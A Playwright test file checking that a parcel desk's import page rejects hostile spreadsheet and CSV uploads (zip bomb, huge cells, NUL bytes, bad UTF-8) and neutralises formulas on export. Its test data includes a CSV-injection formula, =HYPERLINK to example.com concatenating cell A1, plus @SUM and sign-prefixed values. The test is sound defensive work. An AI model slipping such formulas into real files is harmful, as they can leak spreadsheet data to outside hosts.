import { readFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import type { ParcelJson } from '#contract/testing/build-parcel.ts';
import { expect, test } from '../fixtures.ts';
import { emptyDesk } from '../service-profiles.ts';

test.use({ serviceOptions: emptyDesk });

const workbook = (name: string) => readFileSync(join(import.meta.dirname, '../../src/app/testing/workbooks', name));
const rows = (count: number) => Array.from({ length: count }, (_, row) => `${row},Ann\n`).join('');

/** Files that someone might drop, and what the page says of each; what else is refused is in read-file.test.ts. */
const refused: readonly [what: string, file: string | Buffer, says: string][] = [
  ['a cell of 10 MB', `order,name\n1,${'x'.repeat(10_000_000)}\n`, 'The cell in line 2, column 2 has more than'],
  [
    'a quotation mark that 10 MB later has not ended',
    `order,name\n1,"${'x\n'.repeat(5_000_000)}`,
    'It begins with a quotation mark (") that does not end.',
  ],
  ['a row with more cells', 'order,name\n1,Ann\n2,Bob,Graz\n', 'Line 3 has 3 cells, the header has 2'],
  ['a NUL', `order,name\n${rows(3)}x\0,1\n`, 'A character in line 5 is damaged (NUL)'],
  [
    'a broken byte in UTF-8',
    Buffer.concat([Buffer.from('order,name\n1,Żółć\n2,'), Buffer.of(0xc5), Buffer.from('\n')]),
    'A character in line 3 cannot be read',
  ],
  ['a workbook that unpacks to hundreds of times its size', workbook('zip-bomb.xlsx'), 'of the workbook is too large'],
  ['16,384 columns', workbook('wide-sheet.xlsx'), 'The file has 16,384 columns'],
  ['a workbook with a password', workbook('password.xlsx'), 'This workbook is protected with a password'],
  ['a cut workbook', workbook('shop-orders.xlsx').subarray(0, 3000), 'The workbook is damaged'],
  ['a workbook of an old version', workbook('shop-orders.xls'), 'Excel Workbook (.xlsx)'],
  ['an OpenDocument spreadsheet', workbook('shop-orders.ods'), 'This is an OpenDocument spreadsheet'],
  ['a zip', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(200)]), 'This is an archive'],
];

async function choose(page: Page, file: string | Buffer): Promise<void> {
  await page
    .locator('input[type=file]')
    .setInputFiles({ name: 'orders.csv', mimeType: 'text/csv', buffer: Buffer.from(file) });
}

async function check(page: Page): Promise<void> {
  await page.getByRole('button', { name: 'Check rows' }).click();
  await expect(page.getByRole('grid', { name: 'Rows of the file' })).toBeVisible();
}

test(
  'hostile files: each says what is wrong, nothing is sent, and the page continues; formulas are text',
  { tag: '@safety' },
  async ({ desk, api, service }) => {
    const sent: string[] = [];
    desk.on('request', (request) => {
      const { pathname } = new URL(request.url());
      // What columns mean is the desk's, and says nothing of a row.
      if (request.method() !== 'GET' && !pathname.startsWith('/desk/')) sent.push(`${request.method()} ${pathname}`);
    });
    await desk.keyboard.press('Alt+6');
    for (const [what, file, says] of refused)
      await test.step(what, async () => {
        await choose(desk, file);
        const alert = desk.getByRole('alert').filter({ hasText: says });
        await expect(alert).toBeVisible();
        await expect(alert).toBeFocused();
        await expect(desk.getByRole('button', { name: 'Choose another file' })).toBeEnabled();
      });

    await test.step('rows with fewer cells are filled up, and it says so', async () => {
      await choose(desk, 'Order number,Name,City\nSHORT-1,Ann,Graz\nSHORT-2,Bob\n');
      await expect(desk.getByText('Line 3 has fewer cells than the header.')).toBeVisible();
      await check(desk);
      await expect(desk.getByRole('button', { name: 'Create 2 parcels' })).toBeEnabled();
      await desk.getByRole('button', { name: 'Discard' }).click();
    });
    expect(sent).toEqual([]);

    await test.step('formulas come in as text, and go out guarded', async () => {
      const formula = '=HYPERLINK("https://example.com/"&A1,"open")';
      const cells = ['FORMULA-1', `"${formula.replaceAll('"', '""')}"`, '+49 30 1', "'@SUM(1+1)", '-2'];
      await choose(desk, `Order number,Name,Phone,Note,City\n${cells.join(',')}\n`);
      await check(desk);
      await expect(desk.getByRole('grid').getByText(formula)).toBeVisible();
      await desk.getByRole('button', { name: 'Create 1 parcel' }).click();
      await expect(desk.getByText('1 parcel imported.')).toBeVisible();
      const { data } = (await api.get('/parcels')).body as { data: ParcelJson[] };
      expect(data).toMatchObject([{ note: '@SUM(1+1)', receiver: { name: formula, phone: '+49 30 1', city: '-2' } }]);
      expect(sent).toEqual(['POST /v1/parcels']);

      // Loaded again: the list that was read before looks for new parcels later.
      await desk.goto(`${service.origin}/parcels`);
      await desk.getByRole('button', { name: 'Export', exact: true }).click();
      const dialog = desk.getByRole('dialog', { name: 'Export parcels' });
      await dialog.getByRole('radio', { name: 'All fields' }).check();
      const download = desk.waitForEvent('download');
      await dialog.getByRole('button', { name: 'Export' }).click();
      const text = await readFile(await (await download).path(), 'utf8');
      for (const guarded of [`"'=HYPERLINK(""https`, "'+49 30 1", "'@SUM(1+1)", "'-2"]) expect(text).toContain(guarded);
    });
  },
);
